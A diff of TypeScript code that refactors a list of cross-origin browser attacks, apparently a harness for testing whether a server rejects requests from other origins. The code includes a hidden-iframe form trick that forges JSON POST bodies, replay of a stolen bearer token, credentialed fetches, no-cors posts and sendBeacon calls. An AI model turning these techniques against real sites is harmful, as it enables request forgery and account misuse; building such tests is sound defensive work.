@@ -10,10 +10,8 @@ export interface Aim {
   readonly at: string;
   /** Path of a call that writes. */
   readonly call: string;
-  /** Its body, which is right. */
-  readonly body: Readonly<Record<string, unknown>>;
-  /** Whether the body also carries the attack's name, for a server that tells what it was sent. */
-  readonly marked: boolean;
+  /** Its body, which is right, as JSON; for a server that tells what it was sent, it also has the attack's name. */
+  readonly body: string;
   /** A token that has been stolen after it was used. */
   readonly stolen: string;
   /** An address of the attacker's that answers with a redirect to `?to=`, which keeps method and body. */
@@ -33,7 +31,7 @@ export interface Attack {
 }
 
 /** A form is sent from a frame of the attacker's, so that the page stays. */
-const postForm: Attack["run"] = ({ at, call, name, by, body, marked }) => {
+const postForm: Attack["run"] = ({ at, call, name, by, body }) => {
   const frame = document.createElement("iframe");
   frame.name = `frame ${name}`;
   const form = document.createElement("form");
@@ -43,7 +41,7 @@ const postForm: Attack["run"] = ({ at, call, name, by, body, marked }) => {
   form.target = frame.name;
   const field = document.createElement("input");
   // As text a form can spell JSON: what stands before `=` and after it.
-  field.name = JSON.stringify({ ...body, ...(marked ? { name } : {}) }).slice(0, -1) + ',"x":"';
+  field.name = body.slice(0, -1) + ',"x":"';
   field.value = '"}';
   form.append(field);
   document.body.append(frame, form);
@@ -72,11 +70,14 @@ const include: Attack["run"] = ({ at, by }) =>
 
 /** Attacks by a page of another origin: another site, another port of this machine, or another name for it. */
 export const FROM_OUTSIDE: readonly Attack[] = [
-  { name: "fetch the page", run: ({ at }) => fetch(at).then((reply) => reply.text(), () => "") },
-  {
-    name: "fetch the page with credentials",
-    run: ({ at }) => fetch(at, { credentials: "include" }).then((reply) => reply.text(), () => ""),
-  },
+  ...[["fetch the page", "same-origin"], ["fetch the page with credentials", "include"]]
+    .map(([name, by]): Attack => ({
+      name: name!,
+      by: by!,
+      run: ({ at, by }) =>
+        fetch(at, { credentials: by as RequestCredentials })
+          .then((reply) => reply.text(), () => ""),
+    })),
   {
     name: "fetch a file without CORS",
     run: ({ at }) =>
@@ -103,11 +104,11 @@ export const FROM_OUTSIDE: readonly Attack[] = [
   },
   {
     name: "call with a stolen token",
-    run: ({ at, call, body, stolen, name, marked }) =>
+    run: ({ at, call, body, stolen }) =>
       fetch(at + call, {
         method: "POST",
         headers: { "content-type": "application/json", authorization: `Bearer ${stolen}` },
-        body: JSON.stringify({ ...body, ...(marked ? { name } : {}) }),
+        body,
       }).then((reply) => reply.ok ? reply.text() : "", () => ""),
   },
   {
@@ -118,16 +119,15 @@ export const FROM_OUTSIDE: readonly Attack[] = [
   },
   {
     name: "call without CORS, as text",
-    run: async ({ at, call, body, name, marked }) => {
-      const text = JSON.stringify({ ...body, ...(marked ? { name } : {}) });
-      await fetch(at + call, { method: "POST", mode: "no-cors", body: text }).catch(() => {});
+    run: async ({ at, call, body }) => {
+      await fetch(at + call, { method: "POST", mode: "no-cors", body }).catch(() => {});
       return "";
     },
   },
   {
     name: "call by a beacon",
-    run: ({ at, call, body, name, marked }) => {
-      navigator.sendBeacon(at + call, JSON.stringify({ ...body, ...(marked ? { name } : {}) }));
+    run: ({ at, call, body }) => {
+      navigator.sendBeacon(at + call, body);
       return "";
     },
   },
